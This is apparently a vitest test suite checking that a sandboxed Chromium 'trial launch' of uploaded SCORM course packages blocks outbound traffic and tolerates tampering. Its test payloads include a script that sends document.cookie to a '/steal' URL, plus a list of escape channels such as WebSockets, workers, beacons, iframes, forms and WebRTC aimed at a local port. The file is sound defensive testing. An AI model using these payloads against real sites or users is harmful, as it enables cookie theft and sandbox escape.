import { spawnSync } from 'node:child_process'
import { chmodSync, mkdtempSync, writeFileSync } from 'node:fs'
import { createSocket } from 'node:dgram'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { trialHints } from '@portico/shared/rules/scorm/trial.ts'
import { makeManifest } from '../../api/local/demo/scorm/make-manifest.ts'
import { makePackage } from '../../api/local/demo/scorm/make-package.ts'
import { makeZip } from '../../api/local/demo/scorm/make-zip.ts'
import { importPackage } from '../../api/src/domains/scorm/import/import-package.ts'
import { runTrial } from '../../api/src/domains/scorm/trial/run-trial.ts'
import { createDiskStorage } from '../../api/src/storage/disk-storage.ts'
import { storageKey } from '../../api/src/storage/storage-key.ts'
import { findBrowser } from '../support/browser.ts'

const folder = mkdtempSync(join(tmpdir(), 'portico-trial-'))
const storage = createDiskStorage(join(folder, 'storage'))
let elsewhere: Server
const requestedUrls: string[] = []
let connections = 0
beforeAll(async () => {
  elsewhere = createServer((request, response) => {
    requestedUrls.push(request.url ?? '')
    response.end()
  })
  elsewhere.on('connection', () => (connections += 1))
  await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve))
})
afterAll(async () => {
  elsewhere.close()
  await rm(folder, { recursive: true, force: true })
})

/** Chromium's sandbox does not run as root, so root starts it as another user who owns its profile. */
function browser(): string {
  if (process.getuid?.() !== 0) return findBrowser()
  const path = join(folder, 'chromium.sh')
  writeFileSync(
    path,
    `#!/bin/sh
for word in "$@"; do case "$word" in --user-data-dir=*) chown -R 65534:65534 "\${word#--user-data-dir=}";; --no-sandbox) exit 1;; esac; done
exec setpriv --reuid=65534 --regid=65534 --clear-groups env HOME=/tmp TMPDIR=/tmp ${findBrowser()} "$@"
`,
  )
  chmodSync(path, 0o755)
  return path
}

// Some containers do not allow the namespaces that the sandbox needs.
const hasSandbox =
  spawnSync(browser(), [
    '--headless=new',
    `--user-data-dir=${mkdtempSync(join(tmpdir(), 'portico-probe-'))}`,
    '--dump-dom',
    'about:blank',
  ]).status === 0

const limits = { total_ms: 40_000, watched_ms: 2_000, memory_bytes: 512 * 1024 ** 2 }
async function tried(zip: Buffer, change: Partial<typeof limits> = {}) {
  const upload = storageKey('uploads/tried.zip')
  await storage.put(upload, zip)
  const done = await importPackage({ storage, upload })
  if (!done.ok) throw new Error(done.code)
  const [sco] = done.package.items
  if (!sco) throw new Error('the package has no part')
  const { sha256 } = done.package
  return runTrial({ chromium_path: browser(), storage, sha256, sco, limits: { ...limits, ...change } })
}
const page = (script: string) =>
  makeZip([
    { name: 'imsmanifest.xml', data: makeManifest({ title: 'Tried' }) },
    { name: 'index.html', data: `<!doctype html><title>x</title><script>${script}</script>` },
  ])

test.skipIf(!hasSandbox)(
  'a trial launch sees the content’s API calls and has no hints for good packages',
  async () => {
    const found = await tried(await makePackage())
    expect(found).toMatchObject({ ended: 'ran', statuses: ['incomplete'], errors: [], elsewhere: [], refused: [] })
    expect(found.calls).toMatchObject({ LMSInitialize: 1 })
    expect(trialHints(found)).toEqual([])
  },
  90_000,
)

test.skipIf(!hasSandbox)(
  'content that breaks, sets invalid values or requests other hosts gets hints and reaches nothing',
  async () => {
    const other = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}/steal`
    const found = await tried(
      await page(`
      const api = parent.API
      api.LMSInitialize('')
      api.LMSSetValue('cmi.core.score.raw', '140')
      api.LMSSetValue('cmi.suspend_data', 'x'.repeat(5000))
      fetch('${other}?' + document.cookie).catch(() => {})
      fetch('https://tracker.example/pixel.gif').catch(() => {})
      throw new Error('media list is empty')`),
    )
    expect(found).toMatchObject({ ended: 'ran', suspend_characters: 5_000, refused: ['cmi.core.score.raw'] })
    expect(found.errors.join()).toContain('media list is empty')
    expect(found.elsewhere).toEqual(expect.arrayContaining([other, 'https://tracker.example/pixel.gif']))
    expect(requestedUrls).toEqual([])
    expect(trialHints(found)).toHaveLength(4)
  },
  90_000,
)

test.skipIf(!hasSandbox)(
  'no way out of a trial launch reaches another local port: windows, sockets, frames, WebRTC',
  async () => {
    const port = (elsewhere.address() as AddressInfo).port
    const peer = createSocket('udp4')
    let packets = 0
    peer.on('message', () => (packets += 1))
    await new Promise<void>((resolve) => peer.bind(0, '127.0.0.1', resolve))
    const other = `http://127.0.0.1:${port}`
    const found = await tried(
      await page(`
      const tries = [
        () => window.open('${other}/window'),
        () => new WebSocket('ws://127.0.0.1:${port}/socket'),
        () => new Worker(URL.createObjectURL(new Blob(["fetch('${other}/worker'); new WebSocket('ws://127.0.0.1:${port}/worker-socket')"]))),
        () => new SharedWorker(URL.createObjectURL(new Blob(["fetch('${other}/shared-worker')"]))),
        () => navigator.sendBeacon('${other}/beacon'),
        () => new EventSource('${other}/events'),
        () => { for (const rel of ['preconnect', 'prefetch', 'stylesheet', 'modulepreload', 'dns-prefetch']) { const link = document.createElement('link'); link.rel = rel; link.href = '${other}/' + rel; document.head.append(link) } },
        () => { const frame = document.createElement('iframe'); frame.src = '${other}/frame'; document.head.append(frame) },
        () => { const form = document.createElement('form'); form.action = '${other}/form'; form.target = '_blank'; document.head.append(form); form.submit() },
        () => fetch('http://localhost:${port}/localhost', { mode: 'no-cors' }),
        () => fetch('http://[::1]:${port}/six', { mode: 'no-cors' }),
        async () => {
          const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${peer.address().port}' }] })
          peer.createDataChannel('out')
          await peer.setLocalDescription(await peer.createOffer())
        },
      ]
      addEventListener('load', () => { for (const one of tries) try { Promise.resolve(one()).catch(() => {}) } catch {} })
      parent.API.LMSInitialize('')`),
    )
    peer.close()
    expect(found).toMatchObject({ ended: 'ran', calls: { LMSInitialize: 1 } })
    expect([connections, requestedUrls, packets]).toEqual([0, [], 0])
    expect(found.elsewhere).toEqual(
      expect.arrayContaining([
        `${other}/beacon`,
        `${other}/frame`,
        `${other}/worker`,
        `${other}/shared-worker`,
        `${other}/form`,
        'RTCPeerConnection',
        `ws://127.0.0.1:${port}/socket`,
        // The worker's socket, which only the proxy sees, as a tunnel.
        `127.0.0.1:${port}`,
      ]),
    )
  },
  90_000,
)

test.skipIf(!hasSandbox)(
  'content that tampers with its trial record causes a hint at most, whatever its shape',
  async () => {
    for (const seen of [
      'null',
      '{ calls: null, statuses: 1, refused: {} }',
      '{ calls: { a: "b" } }',
      '"x".repeat(9e6)',
    ]) {
      const found = await tried(await page(`parent.API.LMSInitialize(''); parent.seen = ${seen}`))
      expect([seen, found.ended, found.is_unreadable]).toEqual([seen, 'ran', true])
      expect(trialHints(found)).toEqual([expect.stringContaining('could not be read')])
    }
    const spoiled = await tried(await page(`parent.API.LMSInitialize(''); throw new Error('a \\0 \\ud800 b')`))
    expect(spoiled.errors.join()).toMatch(/a\s+\uFFFD b/)
  },
  180_000,
)

test.skipIf(!hasSandbox)(
  'a trial ends at its limits; a browser start failure is not blamed on packages',
  async () => {
    const zip = await page(`parent.API.LMSInitialize('')`)
    expect(await tried(zip, { memory_bytes: 1024 ** 2 })).toMatchObject({ ended: 'too_much_memory' })
    const endless = await page(`document.write('<img src="slow.png">'); for (;;) {}`)
    expect((await tried(endless, { total_ms: 6_000 })).ended).toMatch(/^(?:too_long|too_much_memory)$/)
    const upload = storageKey('uploads/tried.zip')
    await storage.put(upload, zip)
    const sco = { title: 'Tried', launch: 'index.html', launch_data: null, mastery_score: null }
    const found = await runTrial({
      chromium_path: '/nonexistent/chromium',
      storage,
      sha256: 'a'.repeat(64),
      sco,
      limits,
    })
    expect([found.ended, trialHints(found)]).toEqual(['not_run', []])
  },
  120_000,
)
